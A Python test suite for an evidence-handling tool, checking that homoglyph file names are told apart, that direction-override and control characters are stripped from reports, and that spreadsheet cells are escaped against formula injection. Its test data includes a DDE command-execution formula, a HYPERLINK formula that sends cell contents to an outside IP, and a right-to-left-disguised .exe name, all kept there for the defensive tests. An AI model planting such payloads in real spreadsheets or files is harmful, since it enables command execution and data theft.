"""What deceives eyes: names that look alike, direction marks, cells that a spreadsheet would run."""

from __future__ import annotations

import ast
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import perito as package
from perito.evidence import Store
from perito.evidence.spreadsheet import original_text, safe_cell

SOURCE = Path(package.__file__).parent
LATIN, CYRILLIC = "scope.csv", "s\u0441\u043e\u0440\u0435.csv"  # the second with Cyrillic letters


def test_names_that_look_alike_are_two_items_told_apart_by_their_digests(tmp_path):
    store = Store(tmp_path / "evidence")
    for name, content in ((LATIN, b"one"), (CYRILLIC, b"two")):
        (tmp_path / name).write_bytes(content)
        store.add(tmp_path / name)
    first, second = store.items()
    assert first.path != second.path
    assert first.evidence_id != second.evidence_id
    with store.get(store.find(CYRILLIC).evidence_id) as stream:
        assert stream.read() == b"two"


def test_a_report_lists_items_that_look_alike_with_the_digest_of_each(perito, case_with, tmp_path):
    case = case_with(b'{"study": "s", "kind": "count", "class": "c"}\n')
    for name, content in ((LATIN, b"one"), (CYRILLIC, b"two")):
        (tmp_path / name).write_bytes(content)
        assert perito("add", case, tmp_path / name, "--format", "document").code == 0
    assert perito("run", case, "--quiet").code == 0
    report = (case / "dossier" / "report.html").read_text("utf-8")
    for item in Store(case / "evidence").items():
        assert item.evidence_id.removeprefix("sha256:")[:12] in report


DECEPTIVE = "inv\u202egpj.exe\u2066\u200b\u0007"


def test_direction_marks_and_controls_of_texts_never_reach_a_report_or_a_terminal(
    perito, case_with, tmp_path
):
    line = json.dumps({"study": DECEPTIVE, "kind": "count", "class": DECEPTIVE, "value": 1})
    case = case_with(line.encode() + b"\n{broken" + DECEPTIVE.encode() + b"\n")
    odd = tmp_path / f"{DECEPTIVE}.txt"
    odd.write_bytes(b"x")
    added = perito("add", case, odd, "--format", "document", "--origin", DECEPTIVE)
    ran = perito("run", case)
    assert (added.code, ran.code) == (0, 0)
    report = (case / "dossier" / "report.html").read_text("utf-8")
    for words in (added.out, added.err, ran.out, ran.err, report):
        assert set(words) & {"\u202e", "\u2066", "\u200b", "\u0007"} == set()
    assert "\\u202e" in report


# --- cells for spreadsheets --------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", " =1", "'=1", "\uff1d1",
    '=HYPERLINK("http://198.51.100.7/?"&A1)',
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_marked_as_text(formula):
    assert safe_cell(formula) == "'" + formula


@given(st.text(st.sampled_from("'=+-@ \t\ra1\uff1d"), max_size=6) | st.text())
def test_the_mark_comes_off_again_and_nothing_else_does(text):
    assert original_text(safe_cell(text)) == text
    assert safe_cell(text).lstrip(" ")[:1] not in tuple("=+-@\t\r")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_read_back_holds_the_marked_text_and_no_formula(formula):
    import openpyxl
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write_string(0, 0, safe_cell(formula))
    cell = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert re.sub(r"\s|_x000[0-9A-D]_", "", cell.value) == re.sub(r"\s", "", "'" + formula)


# Who writes cells: the function that marks them, or why they stay as they are.
WRITERS = {
    "dossier/annex.py": "neutral",
    "match/hash_tables.py": "safe_cell",
    "match/sealing.py": "evidence: ids, hashes and declared values for the tables",
    "sampling/tasks.py": "_neutral",
    "sampling/scoring.py": "evidence: ids and numbers for the tables",
    "simulate/case.py": "evidence of a simulated platform",
}
_IMPORT = re.compile(r"^\s*import (csv|xlsxwriter)\b", re.MULTILINE)


def test_every_module_that_writes_cells_is_known_and_marks_them_or_writes_evidence():
    found = {}
    for file in sorted(SOURCE.rglob("*.py")):
        text = file.read_text("utf-8")
        calls = [node.func for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call)]
        names = {func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "") for func in calls}
        if _IMPORT.search(text) and names & {"writer", "DictWriter", "Workbook"}:
            found[file.relative_to(SOURCE).as_posix()] = names
    assert sorted(found) == sorted(WRITERS)
    for place, marker in WRITERS.items():
        assert marker.startswith("evidence") or marker in found[place]


def test_the_marks_of_every_writer_agree():
    from perito.dossier.annex import neutral
    from perito.sampling.tasks import _neutral

    for formula in FORMULAS[:6]:
        assert neutral(formula) == _neutral(formula) == safe_cell(formula)
